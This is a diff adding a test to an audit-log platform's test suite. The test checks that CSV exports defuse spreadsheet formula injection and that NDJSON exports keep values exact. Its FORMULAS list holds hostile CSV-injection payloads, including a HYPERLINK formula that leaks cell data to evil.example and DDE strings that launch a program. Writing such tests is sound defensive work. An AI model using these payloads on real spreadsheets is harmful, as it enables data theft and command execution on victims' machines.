@@ -8,6 +8,8 @@ database, captured, enriched and indexed by the platform's own code.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
 import uuid
@@ -355,3 +357,38 @@ def test_a_download_is_named_by_rfc_6266_whatever_the_id_holds(hostile):
             assert exact.replace("_", "") == f"revert-{kept}.sql".replace("_", ""), exact
     export = h.api.get("/v1/export")
     assert export.headers["content-disposition"].startswith('attachment; filename="audit-')
+
+
+# --- CSV ---------------------------------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text_and_ndjson_stays_exact(hostile):
+    h = hostile
+    for number, formula in enumerate(FORMULAS):
+        context = {"actor": {"type": "user", "id": formula, "name": formula},
+                   "request_id": f"{formula}{number}"}  # fmt: skip
+        h.in_context(context, ("UPDATE slashed SET v = %s WHERE id = 'a/b'", (formula,)))
+    h.sync()
+    text = h.api.get(
+        "/v1/export", params={"format": "csv", "table": "slashed", "operation": "update"}
+    ).text
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == len(FORMULAS)
+    for row, (number, formula) in zip(rows, enumerate(FORMULAS), strict=True):
+        assert row["context.actor.id"] == row["context.actor.name"] == "'" + formula
+        assert row["context.request_id"] == f"'{formula}{number}"
+        assert json.loads(row["after"])["v"] == formula  # JSON text starts with '{'
+    for line in list(csv.reader(io.StringIO(text, newline="")))[1:]:  # under the header
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), line
+    # Every cell quoted, so a separator or a line break inside one never makes a new cell.
+    assert text.startswith('"id","@timestamp"')
+    exact = h.api.get(
+        "/v1/export", params={"format": "ndjson", "table": "slashed", "operation": "update"}
+    ).text
+    found = [json.loads(line) for line in exact.splitlines()]
+    assert [r["context"]["actor"]["id"] for r in found] == FORMULAS
+    assert [r["context"]["request_id"] for r in found] == [f"{f}{n}" for n, f in
+                                                         enumerate(FORMULAS)]  # fmt: skip
